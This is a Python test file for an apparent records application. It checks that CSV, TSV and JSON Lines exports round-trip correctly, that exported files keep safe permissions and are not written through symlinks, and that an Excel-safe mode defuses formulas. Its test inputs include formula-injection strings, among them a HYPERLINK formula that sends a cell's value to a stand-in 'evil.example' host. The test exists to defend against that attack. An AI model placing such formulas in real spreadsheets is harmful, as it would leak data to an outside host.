"""What an export writes, an import reads: all types, CSV and JSON Lines, on both engines."""

from __future__ import annotations

import csv
import stat
import unicodedata
from pathlib import Path

import msgspec
import pytest

from groundlevel.imports.export_rules import Export, export_records
from groundlevel.imports.reader import Reading, SheetError
from groundlevel.imports.record_pages import PAGE
from groundlevel.imports.writer import cell_maker
from groundlevel.kernel.errors import BadRequest, NotSupported, ObjectNotFound
from groundlevel.kernel.fields import type_of
from groundlevel.kernel.fields.compiled import Property
from groundlevel.kernel.model import DataType, Json, Option
from groundlevel.kernel.storage.base import Storage
from groundlevel.records.bulk import NewRecords, create_records
from groundlevel.schema.field_rules import NewOption, delete_field
from tests.imports.importing import counts, errors_of, file, imported, pets
from tests.kernel.fields.examples import EXAMPLES, field_of
from tests.world import PET, World, world_in

FORMULAS = (
    "=1+1", "+1 now", "-a", "@sum", "'=1", "''@x", "-5", "+14155552671", "-1.5e3", "＝1", "＠x", "'", "'x", "a=1",
    '=HYPERLINK("http://evil.example/?x="&A1)',
)  # fmt: skip
"""Texts that a spreadsheet calculates, and some that it does not."""


@pytest.fixture
async def world(storage: Storage) -> World:
    return await world_in(storage)


async def exported(world: World, path: Path, *, overwrite: bool = False, excel_safe: bool = False) -> int:
    request = Export(path=path, object_key="pet", overwrite=overwrite, excel_safe=excel_safe)
    return (await export_records(world.storage, world.call, request))[1]


async def object_of_all_types(world: World) -> list[dict[str, Json]]:
    """Creates an object with a field of every type; returns properties with every value that has an example."""
    await world.pet()
    rows: list[dict[str, Json]] = []
    for kind, examples in EXAMPLES.items():
        field = examples.field
        sent = [NewOption(option.label, option.key) for option in field.options]
        await world.field(field.key, kind, options=sent or None)
        key = f"{field.key}.{field.options[0].key}" if kind is DataType.TEXTBOX_LIST else field.key
        rows += [{"name": f"{kind} {n}", key: wire} for n, (wire, _) in enumerate(examples.accepted)]
    odd = [NewOption("A; B", "a;b"), *(NewOption(key, key) for key in ("Doe, Jane", "A", "x; y", "x", "y", "[z]"))]
    await world.field("odd", "CHECKBOX", options=odd)
    keys = [option.key for option in odd]
    rows += [{"name": f"odd {n}", "odd": [key]} for n, key in enumerate(keys)]
    rows += [{"name": "odd all", "odd": keys}, {"name": "odd two", "odd": ["x", "y"]}]
    await world.field("own", "RADIO", options=odd, custom_option_allowed=True)
    rows += [{"name": f"own {n}", "own": text} for n, text in enumerate((" as sent ", "a;b", "z, x", '["x"]'))]
    return rows


@pytest.mark.parametrize(
    ("name", "excel_safe"), [("pets.csv", False), ("pets.tsv", False), ("pets.jsonl", False), ("pets.csv", True)]
)
async def test_every_value_comes_back(world: World, tmp_path: Path, name: str, excel_safe: bool) -> None:
    rows = await object_of_all_types(world)
    rows += [{"name": text} for text in FORMULAS]
    written = await world.do(create_records, NewRecords(PET, rows))
    assert (written.created, written.errors) == (len(rows), [])
    before = await everything(world)
    assert await exported(world, tmp_path / name, excel_safe=excel_safe) == len(rows)
    for record_id in before:
        await world.delete(record_id)
    summary = await imported(world, tmp_path / name, reading=Reading(excel_safe=excel_safe))
    assert counts(summary) == (len(rows), len(rows), 0, 0)
    # Texts come back in the composed form, which is the same text to people.
    assert composed(list((await everything(world)).values())) == composed(list(before.values()))
    again = tmp_path / f"again-{name}"
    await exported(world, again, excel_safe=excel_safe)
    assert composed(again.read_text(encoding="utf-8")) == composed((tmp_path / name).read_text(encoding="utf-8"))
    assert not list(tmp_path.glob("*.part"))


async def everything(world: World) -> dict[str, dict[str, Json]]:
    """The stored properties of every record by id, oldest first."""
    found: dict[str, dict[str, Json]] = {}
    page = 0
    while True:
        page += 1
        views = (await world.search(page_limit=100, page=page, sort=[{"field": "id", "direction": "asc"}])).views
        if not views:
            return found
        found.update((view.record.id, msgspec.json.decode(view.record.properties)) for view in views)


def composed(value: Json) -> Json:
    return msgspec.json.decode(unicodedata.normalize("NFC", msgspec.json.encode(value).decode()))


async def test_pages_are_put_together_and_match_again(world: World, tmp_path: Path) -> None:
    await imported(world, file(tmp_path, "name,n\n" + "".join(f"Pet {n},{n}\n" for n in range(PAGE + 1))), create=True)
    path = tmp_path / "out.csv"
    assert await exported(world, path) == PAGE + 1
    assert (await imported(world, path, match="name")).unchanged == PAGE + 1


async def test_fields_that_are_gone_or_came_back_are_written_as_they_are(world: World, tmp_path: Path) -> None:
    await world.pet()
    field = await world.field("age", "NUMERICAL")
    await world.create({"name": "Rex", "age": 3})
    await world.do(delete_field, field.id)
    await world.field("age", "TEXT")
    await world.create({"name": "Tom", "age": "old"})
    await exported(world, tmp_path / "out.csv")
    assert (tmp_path / "out.csv").read_text(encoding="utf-8").splitlines() == ["name,age", "Rex,", "Tom,old"]


async def test_an_object_without_records_is_a_header(world: World, tmp_path: Path) -> None:
    await world.pet()
    assert await exported(world, tmp_path / "out.csv") == 0
    assert (await imported(world, tmp_path / "out.csv")).rows == 0


async def test_a_file_that_exists_is_kept_unless_it_may_be_replaced(world: World, tmp_path: Path) -> None:
    await world.pet()
    path = file(tmp_path, "precious")
    with pytest.raises(SheetError, match="exists already"):
        await exported(world, path)
    assert path.read_text(encoding="utf-8") == "precious"
    await exported(world, path, overwrite=True)
    assert path.read_text(encoding="utf-8").strip() == "name"


async def test_a_file_is_for_its_owner_alone(world: World, tmp_path: Path) -> None:
    await world.pet()
    path = file(tmp_path, "open to all")
    path.chmod(0o644)
    await exported(world, path, overwrite=True)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


async def test_a_link_that_waits_in_the_directory_is_not_written_through(world: World, tmp_path: Path) -> None:
    await world.pet()
    other = tmp_path / "other"
    other.write_text("of somebody else", encoding="utf-8")
    (tmp_path / "out.csv.part").symlink_to(other)
    await exported(world, tmp_path / "out.csv")
    assert other.read_text(encoding="utf-8") == "of somebody else"
    assert not (tmp_path / "out.csv").is_symlink()


@pytest.mark.parametrize(
    ("key", "name", "refusal"),
    [
        ("none", "a.csv", ObjectNotFound),
        ("contact", "a.csv", NotSupported),
        ("pet", "a.xlsx", BadRequest),
        ("pet", "none/a.csv", SheetError),
    ],
)
async def test_exports_that_are_refused_leave_nothing(
    world: World, tmp_path: Path, key: str, name: str, refusal: type[Exception]
) -> None:
    await world.pet()
    with pytest.raises(refusal):
        await export_records(world.storage, world.call, Export(path=tmp_path / name, object_key=key))
    assert not [path for path in tmp_path.iterdir() if not path.name.startswith("test.db")]


@pytest.mark.parametrize(
    ("data_type", "stored", "cell"),
    [
        (DataType.NUMERICAL, 5, "5"),
        (DataType.NUMERICAL, 0.5, "0.5"),
        (DataType.MONETARY, {"currency": "default", "value": 12.5}, "12.5"),
        (DataType.MONETARY, {"currency": "EUR", "value": 12.5}, "12.5 EUR"),
        (DataType.MONETARY, {"currency": "EUR", "value": 1e-07}, '{"currency":"EUR","value":1e-7}'),
        (DataType.CHECKBOX, ["a", "b"], "a; b"),
        (DataType.CHECKBOX, ["a", "b;c"], '["a","b;c"]'),
        (DataType.TEXT, '["a"]', '["a"]'),
    ],
)
def test_cells(data_type: DataType, stored: Json, cell: str) -> None:
    kind = type_of(data_type)
    choices = tuple(Option(key, key) for key in ("a", "b", "b;c")) if kind.has_options else ()
    field = field_of(data_type, options=choices)
    assert cell_maker(Property(field, kind, field.key))(stored) == cell


async def test_a_sheet_that_is_safe_for_excel_has_no_formula(world: World, tmp_path: Path) -> None:
    await world.pet()
    await world.field("age", "NUMERICAL")
    for text in FORMULAS:
        await world.create({"name": text, "age": -5})
    await exported(world, tmp_path / "out.csv", excel_safe=True)
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as opened:
        cells = [row[0] for row in csv.reader(opened)][1:]
        assert "'=1+1" in cells
    unsafe = [cell for cell in cells if cell[0] in "=+-@＝＋－＠" and not is_number(cell)]
    assert not unsafe
    assert (tmp_path / "out.csv").read_text(encoding="utf-8").count(",-5") == len(FORMULAS)
    with pytest.raises(BadRequest, match="safe for Excel"):
        await exported(world, tmp_path / "out.jsonl", excel_safe=True)


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


async def test_refused_rows_of_a_safe_sheet_are_safe_and_come_back(world: World, tmp_path: Path) -> None:
    await world.pet()
    await world.field("age", "NUMERICAL")
    path = file(tmp_path, "name,age\n'=1+1,old\n''=x,none\n")
    summary = await imported(world, path, reading=Reading(excel_safe=True))
    assert [row[3] for row in errors_of(summary)] == ["'=1+1", "''=x"]
    assert summary.errors_path is not None
    mended = summary.errors_path.read_text(encoding="utf-8").replace(",old", ",1").replace(",none", ",2")
    again = file(tmp_path, mended, "again.csv")
    assert counts(await imported(world, again, reading=Reading(excel_safe=True))) == (2, 2, 0, 0)
    assert [each["name"] for each in await pets(world)] == ["=1+1", "'=x"]
